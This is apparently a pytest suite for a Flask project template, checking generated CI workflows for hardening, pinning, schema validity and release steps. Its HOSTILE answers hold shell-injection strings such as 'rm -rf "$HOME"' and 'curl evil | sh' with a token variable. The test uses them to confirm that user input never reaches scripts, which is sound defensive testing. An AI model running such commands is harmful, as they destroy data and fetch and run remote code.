"""CI configuration of generated projects, checked offline with the tools the users' CI runs."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import tomllib
from pathlib import Path

import pytest
import yaml

from conftest import Bake
from conftest import BIN
from conftest import cookiecutter_cli
from conftest import DEFAULTS
from conftest import error_lines
from conftest import gate
from conftest import REAL_ANSWERS
from conftest import run
from conftest import TEMPLATE

PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*")
CI_FILES = {".github", ".gitlab-ci.yml", "renovate.json", ".travis.yml"}
# Answers typed by a user, with every character a shell treats specially.
HOSTILE = {
    "author_name": 'Robert\'); rm -rf "$HOME" `id` $(id) ${PATH} \\ ; echo',
    "short_description": 'Say "hi" && curl evil | sh; # ${GITHUB_TOKEN} $(whoami)',
}


def workflows(project: Path) -> dict[str, dict]:  # type: ignore[type-arg]
    return {
        path.name: yaml.safe_load(path.read_text(encoding="utf-8"))
        for path in sorted((project / ".github/workflows").glob("*.yaml"))
    }


def steps(workflow: dict) -> list[dict]:  # type: ignore[type-arg]
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


@gate(varying=("ci",))
def test_only_the_chosen_ci_files_exist(bake: Bake, combo: dict[str, object]) -> None:
    ci = combo["ci"]
    present = {p.name for p in bake(**combo).iterdir()} & CI_FILES
    expected = {
        "github": {".github"},
        "gitlab": {".gitlab-ci.yml"},
        "travis": {".travis.yml"},
    }
    assert present == expected.get(ci, set())
    # Nor does any other file name another CI's files, or an updater the project does not use.
    project = bake(**combo)
    others = {"github": ".github/", "gitlab": ".gitlab-ci", "travis": ".travis"}
    others.pop(str(ci), None)
    for path in project.rglob("*"):
        if path.is_file() and path.name != "uv.lock" and ".git" not in path.parts:
            text = path.read_text("utf-8").lower()
            for name in (*others.values(), "renovate", "dependabot"):
                assert name not in text, (path, name)


def test_github_workflows_pass_their_schema(bake: Bake) -> None:
    project = bake(ci="github")
    run(
        BIN / "check-jsonschema",
        "--builtin-schema",
        "vendor.github-workflows",
        *sorted((project / ".github/workflows").glob("*.yaml")),
    )


@pytest.mark.parametrize(
    "answers",
    [{}, HOSTILE | {"with_views": True, "with_cli": True}],
    ids=["defaults", "hostile-text"],
)
def test_zizmor_finds_nothing(bake: Bake, answers: dict[str, object]) -> None:
    project = bake(ci="github", **answers)
    out = run(
        BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress", project / ".github"
    )
    assert "No findings to report" in out


def test_actions_are_pinned_to_commits(bake: Bake) -> None:
    uses = [
        step["uses"]
        for wf in workflows(bake(ci="github")).values()
        for step in steps(wf)
        if "uses" in step
    ]
    assert uses
    text = "\n".join(p.read_text("utf-8") for p in (bake(ci="github") / ".github").rglob("*.y*ml"))
    for line in re.findall(r"uses: (.*)", text):
        assert PINNED.fullmatch(line), line
    assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())


def test_workflows_are_hardened(bake: Bake) -> None:
    for name, workflow in workflows(bake(ci="github")).items():
        assert workflow["permissions"] == {}, name
        assert "concurrency" in workflow, name
        for job_name, job in workflow["jobs"].items():
            assert job.get("permissions"), (name, job_name)
        for step in steps(workflow):
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
    tests = workflows(bake(ci="github"))["tests.yaml"]
    assert tests["concurrency"]["cancel-in-progress"] is True


def test_publish_uses_trusted_publishing(bake: Bake) -> None:
    publish = workflows(bake(ci="github"))["publish.yaml"]
    assert publish[True]["push"]["tags"] == ["*"]  # YAML 1.1 reads the key `on` as True
    job = publish["jobs"]["publish"]
    assert job["permissions"] == {"id-token": "write"}
    assert job["environment"]["name"] == "publish"
    # Beside the upload, a draft GitHub release holds the same files, as Flask's.
    draft = publish["jobs"]["create-release"]
    assert draft["needs"] == job["needs"] == ["build"]
    assert draft["permissions"] == {"contents": "write"}
    assert draft["steps"][-1]["run"].startswith("gh release create --draft ")
    artifact = "${{ needs.build.outputs.artifact-id }}"
    for downloading in (draft, job):
        assert downloading["steps"][0]["with"]["artifact-ids"] == artifact
    text = (bake(ci="github") / ".github/workflows/publish.yaml").read_text("utf-8")
    assert "secrets." not in text and "password" not in text


TOX_CALL = "uv run --locked --no-default-groups --group dev tox run"


@gate(varying=("python_min",), where={"ci": ("github",)})
def test_github_matrix_spans_the_supported_pythons(bake: Bake, combo: dict[str, object]) -> None:
    """Every CPython on Linux, free-threading, PyPy, Windows and macOS, the lowest versions on
    the oldest and the newest Python, the development versions, docs, typing and the hooks, as
    Flask's CI: each job one tox call, from the lock (uv's --locked names a missing one), with
    a time limit."""
    python_min = str(combo["python_min"])
    project = bake(**combo)
    tests = workflows(project)["tests.yaml"]
    # A job whose Python is missing fails, where tox on a laptop skips it.
    assert tests["env"] == {"TOX_SKIP_MISSING_INTERPRETERS": "false"}
    (job,) = tests["jobs"].values()
    rows = job["strategy"]["matrix"]["include"]
    supported = DEFAULTS["_python_versions"][DEFAULTS["_python_versions"].index(python_min) :]
    newest = supported[-1]
    free = DEFAULTS["_free_threaded"]
    cpythons = [row["python"] for row in rows if "name" not in row]
    assert sorted(cpythons) == sorted(supported + ([f"{free}t"] if free in supported else []))
    pypy = [row["python"] for row in rows if row.get("name") == "PyPy"]
    assert pypy == ([f"pypy-{DEFAULTS['_pypy']}"] if DEFAULTS["_pypy"] in supported else [])
    assert {"name": "Windows", "python": newest, "os": "windows-latest"} in rows
    assert {"name": "Mac", "python": newest, "os": "macos-latest"} in rows
    lowest = [row["python"] for row in rows if row.get("tox") == "tests-min"]
    assert lowest == [python_min, newest]
    assert {"name": "Development Versions", "python": newest, "tox": "tests-dev"} in rows
    assert {"docs", "typing", "style"} <= {row.get("tox") for row in rows}
    assert {row["tox"] for row in rows if "tox" in row} <= tox_envs(project)
    # mypy rechecks only what changed; pre-commit keeps its hooks' environments.
    caches = {row["tox"]: row["cache"] for row in rows if "cache" in row}
    assert caches == {"typing": ".mypy_cache", "style": "~/.cache/pre-commit"}
    cache, call = job["steps"][-2:]
    assert cache["if"] == "matrix.cache"
    assert DEFAULTS["_actions"]["cache"].startswith(cache["uses"] + " # ")
    assert cache["with"]["path"] == "${{ matrix.cache }}"
    # Keyed by the files that pin the tools: pyproject.toml, uv.lock, .pre-commit-config.yaml.
    assert cache["with"]["key"].endswith("${{ hashFiles('*.toml', 'uv.lock', '.pre-commit*') }}")
    assert call["run"] == TOX_CALL
    assert call["env"]["TOX_ENV"] == "${{ matrix.tox || format('py{0}', matrix.python) }}"
    for workflow in workflows(project).values():
        assert all(job["timeout-minutes"] for job in workflow["jobs"].values())


def tox_envs(project: Path) -> set[str]:
    tox = tomllib.loads((project / "pyproject.toml").read_text("utf-8"))["tool"]["tox"]
    return {*tox["env_list"], *tox["env"]}


@pytest.mark.parametrize("ci", ["github", "gitlab", "travis"])
def test_typed_answers_never_reach_a_script(bake: Bake, ci: str) -> None:
    project = bake(ci=ci, **HOSTILE)
    texts = [p.read_text("utf-8") for p in project.rglob("*.y*ml") if ".git" not in p.parts[-3:]]
    config = "\n".join(texts)
    for value in HOSTILE.values():
        assert value not in config
        for word in ("rm -rf", "curl evil", "whoami"):
            assert word not in config


OTHER_CI_FILES = {
    "gitlab": ("vendor.gitlab-ci", ".gitlab-ci.yml"),
    "travis": ("vendor.travis", ".travis.yml"),
}


# On Python 3.12, which the rows below check the lowest versions on.
@gate(varying=("ci",), where={"ci": tuple(OTHER_CI_FILES), "python_min": ("3.12",)})
def test_other_ci_files_pass_their_schemas(bake: Bake, combo: dict[str, object]) -> None:
    ci = str(combo["ci"])
    schema, path = OTHER_CI_FILES[ci]
    project = bake(**combo)
    run(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
    config = yaml.safe_load((project / path).read_text("utf-8"))
    supported = DEFAULTS["_python_versions"][1:]
    newest = supported[-1]
    # A job whose Python is missing fails, where tox on a laptop skips it.
    if ci == "gitlab":
        assert config["variables"] == {"TOX_SKIP_MISSING_INTERPRETERS": "false"}
        assert config["tox"]["script"] == [f'{TOX_CALL} -e "$TOX_ENV"']
        rows = [(row["IMAGE"], row["TOX_ENV"]) for row in config["tox"]["parallel"]["matrix"]]
    else:
        assert config["env"] == {"global": ["TOX_SKIP_MISSING_INTERPRETERS=false"]}
        assert config["python"] == supported
        assert config["script"] == f'{TOX_CALL} -e "${{TOX_ENV:-py$TRAVIS_PYTHON_VERSION}}"'
        rows = [(f"python:{v}", f"py{v}") for v in config["python"]] + [
            (f"python:{job['python']}", job["env"].removeprefix("TOX_ENV="))
            for job in config["jobs"]["include"]
            if "env" in job
        ]
    assert {env for _, env in rows} <= tox_envs(project)
    assert {(f"python:{v}", f"py{v}") for v in supported} <= set(rows)
    assert ("python:3.12", "tests-min") in rows and (f"python:{newest}", "tests-min") in rows
    assert {"tests-dev", "typing", "docs", "style"} <= {env for _, env in rows}


def publish_commands(project: Path, ci: str) -> list[str]:
    """What the job that runs on a tag and uploads to PyPI runs before the upload."""
    if ci == "github":
        build = workflows(project)["publish.yaml"]["jobs"]["build"]
        return [step["run"] for step in build["steps"] if "run" in step]
    if ci == "gitlab":
        job = yaml.safe_load((project / ".gitlab-ci.yml").read_text("utf-8"))["publish"]
        assert job["rules"] == [{"if": "$CI_COMMIT_TAG"}]
        return job["script"]  # type: ignore[no-any-return]
    jobs = yaml.safe_load((project / ".travis.yml").read_text("utf-8"))["jobs"]["include"]
    (job,) = [job for job in jobs if job.get("stage") == "publish"]
    assert job["if"] == "tag IS present"
    return job["script"]  # type: ignore[no-any-return]


@gate(varying=("ci",), where={"ci": ("github", "gitlab", "travis")})
def test_every_publish_job_builds_with_make_dist(bake: Bake, combo: dict[str, object]) -> None:
    """What a maintainer runs is what CI publishes: make dist, which refuses the prompts'
    example answers before it builds (in a bake that kept them)."""
    ci = str(combo["ci"])
    project = bake(**combo)
    commands = publish_commands(project, ci)
    assert "make dist" in commands and not any("uv build" in line for line in commands)
    planned = run("make", "-n", "-C", project, "dist").splitlines()
    check = next(i for i, line in enumerate(planned) if "grep" in line)
    build = next(i for i, line in enumerate(planned) if " build --clear" in line)
    assert check < build


def test_a_bake_with_real_answers_releases(bake: Bake, tmp_path: Path) -> None:
    """make dist holds no check it could never fail: it builds, and twine agrees. The sdist
    holds no CI file, so one CI stands for all."""
    project = tmp_path / "project"
    shutil.copytree(bake(**REAL_ANSWERS), project)
    assert "grep" not in run("make", "-n", "dist", cwd=project)
    run("make", "dist", cwd=project)
    dists = sorted((project / "dist").glob("*.*[lz]"))
    assert len(dists) == 2
    run(BIN / "twine", "check", "--strict", *dists)


def test_a_bake_with_the_prompts_examples_is_refused(bake: Bake, tmp_path: Path) -> None:
    """Every published line that still holds one, in one run, then one error line; a bake
    that kept only some checks those."""
    project = tmp_path / "project"
    shutil.copytree(bake(), project)
    result = subprocess.run(["make", "dist"], cwd=project, capture_output=True, text=True)
    assert result.returncode != 0 and not (project / "dist").exists()
    found = set(re.findall(r"^([^:\s]+):(\d+):", result.stdout, re.MULTILINE))
    assert {where for where, _ in found} == {"pyproject.toml", "LICENSE.txt", "docs/conf.py"}
    pyproject = (project / "pyproject.toml").read_text("utf-8").splitlines()
    for example in ("Your Name", "you@example.com", "your-github-name", "Example support"):
        assert any(
            example in pyproject[int(number) - 1]
            for where, number in found
            if where == "pyproject.toml"
        ), example
    assert error_lines(result.stderr) == [
        "ERROR: the lines above hold the template's example answers: write the real values"
    ]
    partly = bake(**{**REAL_ANSWERS, "author_email": DEFAULTS["author_email"]})
    planned = run("make", "-n", "dist", cwd=partly)
    assert '-e "you@example.com"' in planned and "Jane" not in planned
    assert "Your Name" not in planned


def test_development_versions_come_from_the_main_branches(bake: Bake) -> None:
    """The env runs in the user's CI (it needs GitHub); here, what it installs."""
    tox = tomllib.loads((bake() / "pyproject.toml").read_text("utf-8"))["tool"]["tox"]
    (install,) = tox["env"]["tests-dev"]["commands_pre"]
    assert install == [
        "uv",
        "pip",
        "install",
        "https://github.com/pallets/flask/archive/refs/heads/main.tar.gz",
        "https://github.com/pallets/werkzeug/archive/refs/heads/main.tar.gz",
    ]


@gate(varying=("ci",))
def test_the_pins_move_one_way(bake: Bake, combo: dict[str, object]) -> None:
    """As in Pallets' projects, tox's update envs alone move the pins: no Dependabot or
    Renovate proposes the same changes a second way."""
    project = bake(**combo)
    assert not (project / ".github/dependabot.yml").exists()
    assert not (project / "renovate.json").exists()
    tox = tomllib.loads((project / "pyproject.toml").read_text("utf-8"))["tool"]["tox"]["env"]
    update = {name for name, env in tox.items() if "update" in env.get("labels", [])}
    expected = {"update-requirements", "update-pre_commit"}
    assert update == expected | ({"update-actions"} if combo["ci"] == "github" else set())


def test_template_own_workflows_are_hardened() -> None:
    files = sorted((TEMPLATE / ".github/workflows").glob("*.yaml"))
    assert files
    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
    out = run(
        BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress", TEMPLATE / ".github"
    )
    assert "No findings to report" in out
    text = "\n".join(path.read_text("utf-8") for path in files)
    assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())


def pushes_that_run_ci(project: Path, ci: str) -> list[str] | None:
    """The branches whose pushes start the tests; None if every branch's do."""
    if ci == "github":
        on = workflows(project)["tests.yaml"][True]  # YAML 1.1 reads the key `on` as true
        return on["push"].get("branches")  # type: ignore[no-any-return]
    config = yaml.safe_load((project / f".{ci}{'-ci' if ci == 'gitlab' else ''}.yml").read_text())
    if ci == "gitlab":
        assert "workflow" not in config  # no rules that could leave a branch out
        tests = [
            job for job in config.values() if isinstance(job, dict) and job.get("stage") == "test"
        ]
        assert tests and all("rules" not in job and "only" not in job for job in tests)
        return None
    return config.get("branches", {}).get("only")  # type: ignore[no-any-return]


@pytest.mark.parametrize("ci", ["github", "gitlab", "travis"])
def test_first_commit_is_on_the_branch_ci_runs_on(tmp_path: Path, ci: str) -> None:
    """Whatever branch name git defaults to on this machine, the first push runs the CI."""
    git_config = tmp_path / "gitconfig"
    git_config.write_text("[init]\n\tdefaultBranch = trunk\n")
    env = {**os.environ, "GIT_CONFIG_GLOBAL": str(git_config)}
    baked = cookiecutter_cli(
        "--no-input", "--output-dir", tmp_path, answers_given=(f"ci={ci}",), env=env
    )
    assert baked.returncode == 0, baked.stderr
    project = tmp_path / "flask_example"
    branch = run("git", "branch", "--show-current", cwd=project).strip()
    assert branch == "main"
    branches = pushes_that_run_ci(project, ci)
    assert branches is None or branch in branches


def test_template_ci_runs_the_suite_without_uv_once() -> None:
    """The README's two paths: make test with uv, and with python3 and make only."""
    workflow = yaml.safe_load((TEMPLATE / ".github/workflows/tests.yaml").read_text("utf-8"))
    [job] = workflow["jobs"].values()
    pip_only = {"python": "3.11", "installer": "pip", "pytest-args": "-m without_uv"}
    assert pip_only in job["strategy"]["matrix"]["include"]
    [setup_uv] = [step for step in job["steps"] if "setup-uv" in step.get("uses", "")]
    assert setup_uv["if"] == "matrix.installer == 'uv'"
    assert {"if": "matrix.installer == 'pip'", "run": "! command -v uv"} in job["steps"]
    assert job["steps"][-1] == {
        "run": "make test",
        "env": {"PYTEST_ARGS": "${{ matrix.pytest-args }}"},
    }
    script = (TEMPLATE / ".ci/run").read_text("utf-8").splitlines()
    assert script[-1] == 'PATH="$without_uv" make test VENV=.venv-pip PYTEST_ARGS="-m without_uv"'
    assert "make test" in script
    # The pip-only pass has tests to run (pytest would exit 5 on none).
    marked = [
        p for p in (TEMPLATE / "tests").glob("test_*.py") if "mark.without_uv" in p.read_text()
    ]
    assert len(marked) >= 3


def test_contributing_explains_every_target_of_the_templates_makefile() -> None:
    """Each target the template's own Makefile declares has its entry in CONTRIBUTING.rst."""
    makefile = (TEMPLATE / "Makefile").read_text("utf-8")
    targets = re.search(r"^\.PHONY: (.+)$", makefile, re.MULTILINE)[1].split()  # type: ignore[index]
    readme = (TEMPLATE / "CONTRIBUTING.rst").read_text("utf-8")
    explained = set(re.findall(r"^``make ([a-z-]+)``", readme, re.MULTILINE))
    assert set(targets) - {"venv", "clean"} == explained
    fast = re.search(r"^FAST := (.+)$", makefile, re.MULTILINE)[1].split()  # type: ignore[index]
    assert all((TEMPLATE / path).is_file() for path in fast)


def test_style_stays_out_of_tox_env_list_while_its_hooks_come_from_github(bake: Bake) -> None:
    """The reason written above env_list: bare `tox` runs offline, and the pre-commit hooks
    are fetched from GitHub; make style and CI's job run them. Were every hook local, style
    would belong in env_list."""
    project = bake()
    config = yaml.safe_load((project / ".pre-commit-config.yaml").read_text("utf-8"))
    assert any(repo["repo"].startswith("https://github.com/") for repo in config["repos"])
    text = (project / "pyproject.toml").read_text("utf-8")
    tox = tomllib.loads(text)["tool"]["tox"]
    assert "style" in tox["env"] and "style" not in tox["env_list"]
    assert "pre-commit fetches its\n# hooks from GitHub" in text
